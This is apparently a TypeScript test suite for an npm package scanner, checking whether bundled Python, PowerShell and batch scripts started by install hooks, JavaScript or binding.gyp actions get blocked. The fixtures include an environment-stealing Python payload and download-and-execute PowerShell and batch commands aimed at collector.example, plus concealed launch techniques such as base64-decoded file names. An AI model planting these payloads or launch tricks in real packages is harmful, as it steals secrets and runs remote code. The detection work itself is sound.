/**
 * npm runs JavaScript, and what lifecycle hooks and node-gyp actions start: a Python, Ruby, Perl,
 * PowerShell or batch file of an npm package that no hook, gyp file, package.json script, shell script,
 * Makefile or JavaScript file names never runs by itself (roles.ts unnamedForeignScripts,
 * docs/package-analysis.md "Roles"). The real case: node-pty vendors winpty, whose packaging script
 * deps/winpty/ship/make_msvc_package.py runs `git clone https://…`. The malicious variants start a
 * bundled payload from a hook, from JavaScript, from a binding.gyp action and through PowerShell, and
 * stay blocked. Archives are built in memory; nothing is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive } from '../../shared/packages/analysis/index.js';
import { resolveCommand } from '../../shared/packages/analysis/npm/hooks.js';
import { type NpmScriptNames, scriptNameWords, unnamedForeignScripts } from '../../shared/packages/analysis/roles.js';
import type { PackageFinding } from '../../shared/packages/analysis/types.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { npmTgz } from '../fixtures/archives/build.js';

/** A vendored dependency's packaging script, shaped like winpty's make_msvc_package.py. */
const PACKAGING = `#!python
# Run with native CPython 2.7.
import common_ship
import os
import subprocess

os.chdir(common_ship.topDir)

def checkoutGyp():
    if os.path.isdir("build-gyp"):
        return
    subprocess.check_call([
        "git.exe",
        "clone",
        "https://chromium.googlesource.com/external/gyp",
        "build-gyp"
    ])

def build(arch):
    newEnv = os.environ.copy()
    newEnv["PATH"] = os.path.join(os.environ["VS140COMNTOOLS"], "bin") + ";" + newEnv["PATH"]
    subprocess.check_call(["msbuild", "winpty.sln", "/p:Platform=" + arch], env=newEnv)

checkoutGyp()
`;
const COMMON = 'import os\ntopDir = os.path.dirname(os.path.abspath(__file__))\n';
/** A payload: the user, host and whole environment posted to a collector. */
const STEALER = "import os, json, socket, getpass, urllib.request\ndata = json.dumps({'u': getpass.getuser(), 'h': socket.gethostname(), 'env': dict(os.environ)}).encode()\nurllib.request.urlopen('https://collector.example/c', data)\n";
const PS1 = "$u = 'https://collector.example/p.exe'\nInvoke-WebRequest -Uri $u -OutFile $env:TEMP\\p.exe\nStart-Process $env:TEMP\\p.exe\n";
const BAT = "@echo off\npowershell -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('https://collector.example/p.ps1')\"\n";

async function rate(files: Record<string, string>, scripts: Record<string, string> = {}) {
  const pkg = { name: 'acme-term', version: '1.0.0', main: 'lib/index.js', ...(Object.keys(scripts).length > 0 ? { scripts } : {}) };
  const buf = npmTgz({ 'package.json': JSON.stringify(pkg), 'lib/index.js': 'module.exports = 1;\n', ...files });
  const analysis = await analyzeArchive(buf, { kind: 'tgz', registry: 'npm', registryHosts: [] });
  const level = packageVerdict(
    reviewPackage({ registry: 'npm', name: 'acme-term', version: '1.0.0', analysis, integrity: { ok: true, expected: '', actual: '' }, advisories: { status: 'ok', advisories: [] } }),
  ).securityLevel;
  return { level, analysis };
}

const show = (fs: readonly PackageFinding[]) => fs.filter((f) => f.severity !== 'INFO').map((f) => `${f.ruleId}:${f.severity}:${f.file}:${f.role}`).join(', ');
const worstIn = (fs: readonly PackageFinding[], file: string) => fs.filter((f) => f.file === `package/${file}`).map((f) => f.severity);

function names(texts: string[], foreign: Record<string, string | null> = {}): NpmScriptNames {
  const tokens = new Set<string>();
  const bareExts = new Set<string>();
  for (const t of texts) scriptNameWords(t, tokens, bareExts);
  const f = new Map<string, Set<string> | null>();
  for (const [p, t] of Object.entries(foreign)) {
    if (t === null) {
      f.set(p, null);
      continue;
    }
    const own = new Set<string>();
    scriptNameWords(t, own, bareExts);
    f.set(p, own);
  }
  return { tokens, bareExts, foreign: f };
}

test('unnamedForeignScripts: named by file name, module path, folder (__main__), a named script, or a bare extension; the rest is unnamed', () => {
  const paths = ['p/deps/a.py', 'p/deps/b.py', 'p/deps/tool/__main__.py', 'p/deps/ship/make_pkg.py', 'p/deps/common_ship.py', 'p/misc/x.ps1', 'p/deps/gen-version.bat', 'p/lib/index.js'];
  const js = "spawn('python3', [path.join(__dirname, '..', 'deps', 'a.py')]);\nexecSync('python -m tool');\n";
  const gyp = "{ 'variables': { 'v': '<!(cmd /c \"cd deps && gen-version.bat\")' } }";
  const un = unnamedForeignScripts(paths, names([js, gyp], { 'p/deps/a.py': 'import b\n', 'p/deps/ship/make_pkg.py': 'import common_ship\n' }), new Set());
  // a.py is named by the JS; b.py by a.py (which runs); tool/ by `-m tool`; the .bat by the gyp command.
  assert.equal([...un].sort(), ['p/deps/common_ship.py', 'p/deps/ship/make_pkg.py', 'p/misc/x.ps1']);
  // A text that names an extension without a file (`f.endsWith('.ps1')`) may start any file of it.
  assert.not.ok(unnamedForeignScripts(paths, names([js, "files.filter((f) => f.endsWith('.ps1'))"]), new Set()).has('p/misc/x.ps1'));
  // A named script too large to read may name anything: no script is unnamed.
  assert.is(unnamedForeignScripts(paths, names([js], { 'p/deps/a.py': null }), new Set()).size, 0);
  // A script known to run (install closure) names what it starts.
  assert.not.ok(unnamedForeignScripts(paths, names([], { 'p/misc/x.ps1': '& $PSScriptRoot\\..\\deps\\ship\\make_pkg.py' }), new Set(['p/misc/x.ps1'])).has('p/deps/ship/make_pkg.py'));
});

test('resolveCommand: an interpreter running a file of the archive is a file step; inline code is an inline step; absent files stay commands', () => {
  const files = new Set(['p/scripts/x.py', 'p/tools/gen/__main__.py', 'p/deps/init.ps1', 'p/deps/fetch.bat', 'p/lib/build.pl']);
  const ex = (f: string) => files.has(f);
  const step = (c: string) => resolveCommand(c, 'p/', new Map(), ex)[0]!;
  assert.is(step('python scripts/x.py').file, 'p/scripts/x.py');
  assert.is(step('python3 -u -m tools.gen --fast').file, 'p/tools/gen/__main__.py');
  assert.is(step('powershell -ExecutionPolicy Bypass -File deps/init.ps1').file, 'p/deps/init.ps1');
  assert.is(step('pwsh.exe deps/init.ps1').file, 'p/deps/init.ps1');
  assert.is(step('cmd /c deps\\fetch.bat').file, 'p/deps/fetch.bat');
  assert.is(step('perl -I lib lib/build.pl').file, 'p/lib/build.pl');
  // (Since pkg-analysis-2026.12.7 an interpreter's inline program is an inline step, read for fetching or decoded code.)
  assert.is(step('python -c "import os"').kind, 'inline');
  assert.is(step('python -c "import os"').lang, 'py');
  assert.is(step('python scripts/absent.py').kind, 'command');
  assert.is(step('powershell -Command "Get-Date"').kind, 'command');
});

test("honest: a vendored dependency's own packaging script (git clone) that nothing in the package names is release tooling, not a block (node-pty)", async () => {
  const r = await rate({ 'deps/winpty/ship/make_msvc_package.py': PACKAGING, 'deps/winpty/ship/common_ship.py': COMMON, 'deps/winpty/src/winpty.gyp': "{ 'targets': [ { 'target_name': 'winpty' } ] }" });
  assert.ok(r.level === 'CLEAR' || r.level === 'MONITORED', `${r.level}: ${show(r.analysis.findings)}`);
  // `git clone` of a repository runs nothing it fetched: no shell_remote_command (pkgprec22), and whatever
  // the script shows stays release tooling at LOW.
  assert.not.ok(r.analysis.findings.some((x) => x.ruleId === 'shell_remote_command'), show(r.analysis.findings));
  for (const f of r.analysis.findings.filter((x) => x.file === 'package/deps/winpty/ship/make_msvc_package.py' && x.severity !== 'INFO')) {
    assert.is(f.role, 'release-tooling');
    assert.is(f.severity, 'LOW');
  }
  // The same for a payload-shaped helper and a PowerShell / batch script nothing names.
  const twin = await rate({ 'deps/vendored/lib/helper.py': STEALER, 'deps/setup/init.ps1': PS1, 'deps/setup/fetch.bat': BAT });
  assert.ok(twin.level === 'CLEAR' || twin.level === 'MONITORED', `${twin.level}: ${show(twin.analysis.findings)}`);
  for (const file of ['deps/vendored/lib/helper.py', 'deps/setup/init.ps1', 'deps/setup/fetch.bat']) {
    const fs = twin.analysis.findings.filter((f) => f.file === `package/${file}` && f.severity !== 'INFO');
    assert.ok(fs.length > 0 && fs.every((f) => f.role === 'release-tooling' && f.severity === 'LOW'), show(twin.analysis.findings));
  }
});

test('malicious: a hook that runs `python deps/x.py` is blocked', async () => {
  const r = await rate({ 'deps/x.py': STEALER }, { postinstall: 'python deps/x.py' });
  assert.is(r.level, 'BLOCKED', show(r.analysis.findings));
  assert.ok(worstIn(r.analysis.findings, 'deps/x.py').includes('HIGH'), show(r.analysis.findings));
});

test('malicious: a hook that runs `python3 -m deps.tool` (a package folder with __main__.py) is blocked', async () => {
  const r = await rate({ 'deps/helper/__main__.py': STEALER, 'deps/helper/__init__.py': '' }, { install: 'python3 -m deps.helper' });
  assert.is(r.level, 'BLOCKED', show(r.analysis.findings));
  assert.ok(worstIn(r.analysis.findings, 'deps/helper/__main__.py').includes('HIGH'), show(r.analysis.findings));
});

test("malicious: JavaScript that spawns python3 with path.join(__dirname, 'lib', 'x.py') is blocked, from a hook and from main", async () => {
  const spawn = "const { spawn } = require('child_process');\nconst path = require('path');\nspawn('python3', [path.join(__dirname, 'lib', 'x.py')], { detached: true, stdio: 'ignore' }).unref();\n";
  const hook = await rate({ 'install/setup.js': spawn, 'install/lib/x.py': STEALER }, { postinstall: 'node install/setup.js' });
  assert.is(hook.level, 'BLOCKED', show(hook.analysis.findings));
  assert.ok(worstIn(hook.analysis.findings, 'install/lib/x.py').includes('HIGH'), show(hook.analysis.findings));
  const main = await rate({ 'lib/index.js': `${spawn}module.exports = 1;\n`, 'lib/lib/x.py': STEALER });
  assert.is(main.level, 'BLOCKED', show(main.analysis.findings));
});

test('malicious: a script name the JavaScript decodes before spawning it (base64) is read by the flow reader and counts as named', async () => {
  const js = "const { spawn } = require('child_process');\nconst path = require('path');\nspawn('python3', [path.join(__dirname, Buffer.from('ZGF0YS5weQ==', 'base64').toString())], { detached: true, stdio: 'ignore' }).unref();\nmodule.exports = 1;\n";
  const r = await rate({ 'lib/index.js': js, 'lib/data.py': STEALER });
  assert.is(r.level, 'BLOCKED', show(r.analysis.findings));
  assert.ok(worstIn(r.analysis.findings, 'lib/data.py').includes('HIGH'), show(r.analysis.findings));
});

test('malicious: the payload a named script imports is named too (hook runs deps/run.py, which imports deps/payload.py)', async () => {
  const r = await rate({ 'deps/run.py': 'import payload\npayload.go()\n', 'deps/payload.py': `def go():\n    pass\n${STEALER}` }, { postinstall: 'python deps/run.py' });
  assert.is(r.level, 'BLOCKED', show(r.analysis.findings));
  assert.ok(worstIn(r.analysis.findings, 'deps/payload.py').includes('HIGH'), show(r.analysis.findings));
});

test('malicious: a binding.gyp action that runs a bundled .py is blocked', async () => {
  const gyp = "{ 'targets': [ { 'target_name': 'x', 'actions': [ { 'action_name': 'gen', 'inputs': [], 'outputs': ['gen.h'], 'action': ['python', 'deps/gen/gen_config.py'] } ] } ] }";
  const r = await rate({ 'binding.gyp': gyp, 'deps/gen/gen_config.py': STEALER });
  assert.is(r.level, 'BLOCKED', show(r.analysis.findings));
  assert.ok(worstIn(r.analysis.findings, 'deps/gen/gen_config.py').includes('HIGH'), show(r.analysis.findings));
  // The same action in an included .gypi file names it as well.
  const inc = await rate({ 'binding.gyp': "{ 'includes': ['deps/common.gypi'], 'targets': [ { 'target_name': 'x' } ] }", 'deps/common.gypi': gyp, 'deps/gen/gen_config.py': STEALER });
  assert.is(inc.level, 'BLOCKED', show(inc.analysis.findings));
});

test('malicious: a .ps1 started by `powershell -File` (hook or JavaScript) and a .bat started by `cmd /c` keep their severity', async () => {
  const hook = await rate({ 'deps/setup/init.ps1': PS1 }, { install: 'powershell -ExecutionPolicy Bypass -File deps/setup/init.ps1' });
  assert.is(hook.level, 'BLOCKED', show(hook.analysis.findings));
  assert.ok(worstIn(hook.analysis.findings, 'deps/setup/init.ps1').includes('HIGH'), show(hook.analysis.findings));
  const js = "const cp = require('child_process');\nconst path = require('path');\ncp.execFile('powershell.exe', ['-NoProfile', '-File', path.join(__dirname, '..', 'deps', 'setup', 'init.ps1')]);\nmodule.exports = 1;\n";
  const fromJs = await rate({ 'lib/index.js': js, 'deps/setup/init.ps1': PS1 });
  assert.is(fromJs.level, 'BLOCKED', show(fromJs.analysis.findings));
  assert.ok(worstIn(fromJs.analysis.findings, 'deps/setup/init.ps1').includes('HIGH'), show(fromJs.analysis.findings));
  const bat = await rate({ 'lib/index.js': "require('child_process').exec('cmd /c ' + __dirname + '\\\\..\\\\deps\\\\setup\\\\fetch.bat');\nmodule.exports = 1;\n", 'deps/setup/fetch.bat': BAT });
  // Named, the batch file keeps its role (runtime: weighed as the library code it is); unnamed it is tooling (the honest twin above).
  const batFinding = bat.analysis.findings.find((f) => f.file === 'package/deps/setup/fetch.bat' && f.ruleId === 'remote_code_pipe');
  assert.is(batFinding?.role, 'runtime', show(bat.analysis.findings));
});

test('malicious: a payload under a tooling folder (scripts/, tools/) that a hook, hook JavaScript or gyp action starts through its interpreter runs at install (was release-tooling by path)', async () => {
  const viaHook = await rate({ 'scripts/x.py': STEALER }, { postinstall: 'python scripts/x.py' });
  assert.is(viaHook.level, 'BLOCKED', show(viaHook.analysis.findings));
  assert.ok(viaHook.analysis.findings.some((f) => f.file === 'package/scripts/x.py' && f.role === 'install-time'), show(viaHook.analysis.findings));
  const viaModule = await rate({ 'tools/gen/__main__.py': STEALER, 'tools/gen/__init__.py': '' }, { install: 'python3 -u -m tools.gen' });
  assert.is(viaModule.level, 'BLOCKED', show(viaModule.analysis.findings));
  const viaJs = await rate(
    { 'scripts/setup.js': "const { spawn } = require('child_process');\nconst path = require('path');\nspawn('python3', [path.join(__dirname, 'x.py')], { detached: true, stdio: 'ignore' }).unref();\n", 'scripts/x.py': STEALER },
    { postinstall: 'node scripts/setup.js' },
  );
  assert.is(viaJs.level, 'BLOCKED', show(viaJs.analysis.findings));
  const gyp = "{ 'targets': [ { 'target_name': 'x', 'actions': [ { 'action_name': 'gen', 'inputs': [], 'outputs': ['gen.h'], 'action': ['python', 'tools/gen_config.py'] } ] } ] }";
  const viaGyp = await rate({ 'binding.gyp': gyp, 'tools/gen_config.py': STEALER });
  assert.is(viaGyp.level, 'BLOCKED', show(viaGyp.analysis.findings));
  const viaCmd = await rate({ 'scripts/fetch.bat': BAT }, { install: 'cmd /c scripts\\fetch.bat' });
  assert.ok(viaCmd.analysis.findings.some((f) => f.file === 'package/scripts/fetch.bat' && f.role === 'install-time'), show(viaCmd.analysis.findings));
  // Inline code (`python -c`) is not a file: the hook's command line is judged as before.
  const inline = await rate({ 'scripts/x.py': STEALER }, { postinstall: 'python -c "print(1)"' });
  assert.ok(inline.analysis.findings.every((f) => f.file !== 'package/scripts/x.py' || f.severity === 'INFO' || f.role === 'release-tooling'), show(inline.analysis.findings));
});

test('PyPI is untouched: an unnamed helper module of an sdist keeps its role', () => {
  const un = unnamedForeignScripts(['p/x.py'], names([]), new Set());
  // The function itself knows no registry; classifyFileRoles applies it to npm only (npmNames).
  assert.ok(un.has('p/x.py'));
});

test.run();
